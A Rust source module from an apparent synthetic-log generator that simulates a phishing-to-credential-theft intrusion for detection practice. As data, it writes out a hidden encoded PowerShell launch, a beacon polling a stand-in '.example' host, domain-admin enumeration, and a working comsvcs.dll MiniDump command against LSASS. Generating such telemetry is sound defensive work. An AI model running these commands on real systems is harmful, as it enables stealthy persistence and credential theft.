//! The intrusion hidden in the day: a document with a macro, a beacon, a look around and stolen credentials on the first
//! host; what follows on the second one is told in `intrusion::second_host`.

mod second_host;

use std::rc::Rc;

use super::Summary;
use super::clock::{HOUR, MINUTE, Moment, SECOND};
use super::domain::{Account, FILES, FIRST_WORKSTATION, TERMINAL, WORKSTATIONS};
use super::process::{Process, Start};
use super::programs;
use super::random::Random;
use super::recorder::Recorder;
use super::script::encoded;
use super::station::{Session, Station};
use super::sysmon::{Access, Connection};

const SUBJECTS: &[&str] = &["Invoice", "Delivery_note", "Salary_review", "Contract_draft", "Travel_refund"];
const NAMES: &[&str] = &["cdn-metrics", "sync-assets", "img-cache", "telemetry-hub", "static-files"];

/// What the intruder does, and when.
struct Plan {
    document: String,
    address: String,
    name: String,
    port: u16,
    path: String,
    interval: Moment,
    opened: Moment,
    discovery: Moment,
    theft: Moment,
    movement: Moment,
    cleared: Moment,
    by_service: bool,
    stolen: Rc<Account>,
    second: usize,
}

/// Records the whole intrusion and says what is true of it.
pub(crate) fn play(seed: u64, recorder: &mut Recorder<'_>, stations: &[Station]) -> Summary {
    let mut random = Random::named(seed, "intrusion");
    // Not the administrator, who has the first workstation.
    let victim = random.index(WORKSTATIONS - 1) + FIRST_WORKSTATION + 1;
    let (first, session) = (&stations[victim], &stations[victim].sessions[0]);
    let plan = plan(&mut random, recorder, session, victim);
    let document = deliver(recorder, session, &plan);
    let beacon = start_beacon(recorder, &document, &plan);
    let connections = call_home(recorder, &beacon, &plan);
    look_around(recorder, &beacon, plan.discovery);
    let dumper = steal(recorder, first, &beacon, plan.theft);
    let foothold = second_host::take(recorder, &stations[plan.second], &beacon, &plan);
    recorder.process_ended(plan.cleared + 5 * MINUTE, &beacon);
    recorder.process_ended(plan.cleared + 9 * MINUTE, &document);
    let day = &recorder.domain.day;
    Summary {
        domain: recorder.domain.dns.clone(),
        first_host: recorder.host(victim).full_name.clone(),
        user: session.logon.account.qualified(),
        document: plan.document.clone(),
        opened: day.utc(plan.opened),
        beacon_guid: beacon.guid.clone(),
        beacon_address: plan.address.clone(),
        beacon_name: plan.name.clone(),
        beacon_port: plan.port,
        beacon_interval_seconds: plan.interval / SECOND,
        beacon_connections: connections,
        credential_access: day.utc(plan.theft),
        credential_process_guid: dumper.guid.clone(),
        stolen_account: plan.stolen.qualified(),
        second_host: recorder.host(plan.second).full_name.clone(),
        movement: day.utc(plan.movement),
        movement_by: if plan.by_service { "a service" } else { "WMI" }.to_owned(),
        second_host_guid: foothold.guid.clone(),
        cleared: day.utc(plan.cleared),
        events: 0,
    }
}

fn plan(random: &mut Random, recorder: &Recorder<'_>, session: &Session, victim: usize) -> Plan {
    let other_workstation = 2 * FIRST_WORKSTATION + 3 - victim;
    let second = [FILES, TERMINAL, other_workstation][random.index(3)];
    let stolen = if random.chance(50) { &recorder.domain.admin } else { &recorder.domain.jobs };
    let range = random.pick(&["203.0.113", "198.51.100"]);
    let opened = (7 * HOUR + 50 * MINUTE).max(session.begins + 5 * MINUTE) + random.between(0, 70 * MINUTE);
    let discovery = opened + random.between(6 * MINUTE, 14 * MINUTE);
    let theft = discovery + random.between(20 * MINUTE, 50 * MINUTE);
    let movement = theft + random.between(15 * MINUTE, 60 * MINUTE);
    Plan {
        document: format!("{}_{}.docm", random.pick(SUBJECTS), random.between(1_000, 9_999)),
        // Above the addresses of the sites that people visit.
        address: format!("{range}.{}", random.between(100, 250)),
        name: format!("{}.{}.example", random.pick(NAMES), random.word(6)),
        port: [443, 8080, 8443][random.index(3)],
        path: random.word(9),
        interval: random.between(200, 300) * SECOND,
        opened,
        discovery,
        theft,
        movement,
        cleared: movement + random.between(70 * MINUTE, 110 * MINUTE),
        by_service: random.chance(50),
        stolen: Rc::clone(stolen),
        second,
    }
}

/// A mail brings a document, which the person opens.
fn deliver(recorder: &mut Recorder<'_>, session: &Session, plan: &Plan) -> Rc<Process> {
    let user = &session.logon.account.name;
    let folder = recorder.random.hex(8);
    let path = format!(
        r"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{folder}\{}",
        plan.document
    );
    recorder.file_created(plan.opened - 20 * SECOND, &session.mail, &path);
    let line = format!("\"{}\" /n \"{path}\" /o \"\"", programs::WINWORD.path);
    let start = Start::child(&session.mail, &programs::WINWORD, &line);
    recorder.start(
        plan.opened - 9 * SECOND,
        start,
        &[&programs::NTDLL, &programs::KERNEL32, &programs::USER32, &programs::OLE32, &programs::VBE],
    )
}

/// The document's macro starts a hidden PowerShell.
fn start_beacon(recorder: &mut Recorder<'_>, document: &Rc<Process>, plan: &Plan) -> Rc<Process> {
    let script = beacon_script(plan);
    let line = format!("powershell.exe -NoP -NonI -W Hidden -EncodedCommand {}", encoded(&script));
    let libraries = [&programs::CLR, &programs::AMSI, &programs::AUTOMATION, &programs::WINHTTP];
    let beacon =
        recorder.start(plan.opened, Start::child(document, &programs::POWERSHELL, &line), &libraries);
    console(recorder, plan.opened + 15, &beacon);
    recorder.script_given(plan.opened + 400, &beacon, &script);
    recorder.name_asked(plan.opened + 900, &beacon, &plan.name, &plan.address);
    beacon
}

/// What the beacon would run: enough to be read, nothing that does harm.
fn beacon_script(plan: &Plan) -> String {
    format!(
        "# Fram sample data: a stand-in, it fetches a page and throws it away.\n\
         $client = New-Object Net.WebClient; while ($true) {{ $null = \
         $client.DownloadString('https://{}:{}/{}'); Start-Sleep -Seconds {} }}",
        plan.name,
        plan.port,
        plan.path,
        plan.interval / SECOND
    )
}

/// The beacon calls home at nearly equal intervals until the log is cleared; how often.
fn call_home(recorder: &mut Recorder<'_>, beacon: &Process, plan: &Plan) -> usize {
    let mut moment = plan.opened + 1_100;
    let mut connections = 0;
    while moment < plan.cleared + 3 * MINUTE {
        // A hundredth of the interval late, at most.
        let late = recorder.random.between(0, plan.interval / 100);
        let to = Connection { address: &plan.address, name: &plan.name, port: plan.port, initiated: true };
        recorder.connected(moment + late, beacon, to);
        connections += 1;
        moment += plan.interval;
    }
    connections
}

/// Who am I, and what is here?
fn look_around(recorder: &mut Recorder<'_>, shell: &Rc<Process>, from: Moment) {
    let mut moment = from;
    let questions = [
        (&programs::WHOAMI, "\"C:\\Windows\\system32\\whoami.exe\" /all"),
        (&programs::IPCONFIG, "\"C:\\Windows\\system32\\ipconfig.exe\" /all"),
        (&programs::NLTEST, "\"C:\\Windows\\system32\\nltest.exe\" /dclist:"),
        (&programs::NLTEST, "\"C:\\Windows\\system32\\nltest.exe\" /domain_trusts"),
        (&programs::SYSTEMINFO, "\"C:\\Windows\\system32\\systeminfo.exe\""),
    ];
    for (program, line) in questions {
        recorder.run(moment, Start::child(shell, program, line), 1_800);
        moment += recorder.random.between(8 * SECOND, 70 * SECOND);
    }
    for group in ["Domain Admins", "Enterprise Admins"] {
        let question = format!("group \"{group}\" /domain");
        let line = format!("\"C:\\Windows\\system32\\net.exe\" {question}");
        let net = recorder.run(moment, Start::child(shell, &programs::NET, &line), 1_400);
        let line = format!(r"C:\Windows\system32\net1 {question}");
        recorder.run(moment + 60, Start::child(&net, &programs::NET1, &line), 1_200);
        moment += recorder.random.between(8 * SECOND, 70 * SECOND);
    }
}

/// Dumps the process that holds credentials.
fn steal(recorder: &mut Recorder<'_>, station: &Station, shell: &Rc<Process>, moment: Moment) -> Rc<Process> {
    let lsass = station.resident(&programs::LSASS);
    let dump = format!(r"C:\Windows\Temp\{}.dmp", recorder.random.word(7));
    let line = format!(
        "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {dump} full",
        lsass.pid
    );
    let libraries = [&programs::COMSVCS, &programs::DBGHELP];
    let dumper = recorder.start(moment, Start::child(shell, &programs::RUNDLL, &line), &libraries);
    let granted = recorder.random.pick(&["0x1410", "0x1010"]);
    let trace = r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+2e8fa|C:\Windows\System32\rundll32.exe+3a20";
    recorder.process_accessed(moment + 220, &dumper, lsass, Access { granted, trace });
    recorder.process_accessed(moment + 260, &dumper, lsass, Access { granted: "0x1fffff", trace });
    recorder.file_created(moment + 400, &dumper, &dump);
    recorder.process_ended(moment + 3_900, &dumper);
    recorder.file_deleted(moment + 6 * MINUTE, shell, &dump, false);
    dumper
}

/// The console window of a program started without one.
fn console(recorder: &mut Recorder<'_>, moment: Moment, process: &Rc<Process>) {
    let line = r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1";
    recorder.start(moment, Start::child(process, &programs::CONHOST, line), &[]);
}
